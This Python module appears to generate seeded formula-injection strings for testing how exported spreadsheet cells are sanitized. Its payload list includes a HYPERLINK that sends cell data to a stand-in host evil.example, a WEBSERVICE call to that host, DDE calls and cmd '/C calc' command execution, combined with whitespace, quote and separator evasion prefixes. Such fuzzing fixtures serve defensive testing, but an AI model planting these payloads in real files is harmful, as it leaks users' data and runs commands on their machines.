"""Texts that try to run a formula in the spreadsheet that opens a file. A seed makes them the same each time."""

import random
from collections.abc import Iterator

SEED = 20130101
TRIGGERS = "=+-@\ufe62\ufe63\ufe66\ufe6b\uff0b\uff0d\uff1d\uff20"
# fmt: off
BODIES = (
    'HYPERLINK("http://evil.example/?"&A1,"Click")', "cmd|'/C calc'!A0", 'DDE("soffice";"a";"b")', "MSEXCEL|'x'!A1",
    "SUM(1+9)*cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example")', "SUM(A1:A9)", "SUM(1;2)", "SUM(1,2)", "1+1",
    '"a"&"b"', "A1", "1", "2;=1+1", "2\t=1+1", "2\n=1+1", "2\r=1+1", "2,=1+1", '2";=1+1', '2"\t=1+1', '2","=1+1', "x",
)
# White space of ASCII and of Unicode, control characters, characters without a width, halves of surrogate pairs.
BLANKS = (
    " ", "   ", "\t", "\r", "\n", "\r\n", "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1c", "\x1f", "\x7f",
    "\x85", "\xa0", "\xad", "\u1680", "\u180e", "\u2000", "\u2003", "\u200a", "\u200b", "\u200d", "\u200e", "\u2028",
    "\u2029", "\u202e", "\u202f", "\u205f", "\u2060", "\u2066", "\u3000", "\ufeff", "\ufffe", "\uffff",
    "\ud800", "\udfff",
)
QUOTES = ('"', '""', "'", "''", "`", "\u2018", "\u201c", "\u201d", "\u201e", "\u00ab", "\u00bb")
SEPARATORS = (
    ";", ",", "\t", "\n", "\r", "\r\n", '";"', '","', '"\t"', '";', '",', '"\t', ';"', ',"', '"\n', "; ", ", ",
)
PLAIN = ("a", "Smith", "0", "12", "\\", "|", ":", "(", "{", "%", "<b>", "&", "_x003D_", "\u00e9", "\U0001f600")
# fmt: on


def cells(count: int, *, seed: int = SEED) -> list[str]:
    """Return hostile texts: first each trigger with each body and each prefix, then random mixes of them."""
    made = _cells(random.Random(seed))
    return [next(made) for _ in range(count)]


def _cells(chance: random.Random) -> Iterator[str]:
    for trigger in TRIGGERS:
        yield from (trigger + body for body in BODIES)
        for before in (*BLANKS, *QUOTES, *SEPARATORS):
            yield before + trigger + chance.choice(BODIES)
    while True:
        yield "".join(_formula(chance) for _ in range(chance.randint(1, 3)))


def _formula(chance: random.Random) -> str:
    kinds = (BLANKS, QUOTES, SEPARATORS, PLAIN)
    before = "".join(chance.choice(chance.choice(kinds)) for _ in range(chance.randint(0, 4)))
    return before + chance.choice(TRIGGERS) + chance.choice(BODIES)
